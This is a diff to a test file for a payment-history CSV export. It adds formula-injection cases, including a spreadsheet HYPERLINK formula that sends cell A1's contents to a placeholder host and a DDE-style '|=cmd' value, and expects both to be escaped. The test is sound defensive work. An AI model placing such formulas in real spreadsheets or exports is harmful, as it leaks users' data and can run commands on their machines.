@@ -123,6 +123,8 @@ describe('historyCsv: formula injection and amounts', () => {
     ['＝1+1', "'＝1+1"],
     ['Rent, November', '"Rent, November"'],
     ['Café 5% off', 'Café 5% off'],
+    [';=HYPERLINK("http://example.invalid/?"&A1;"open")', `"';=HYPERLINK(""http://example.invalid/?""&A1;""open"")"`],
+    ['Refund |=cmd', "'Refund |=cmd"],
   ])('a description %j is written %s', (description, cell) => {
     expect(line({ description })).toBe(
       `2026-11-04T14:22:00Z,7,${cell},Person to person,Completed,PD0000000011,-12.50,EUR`,
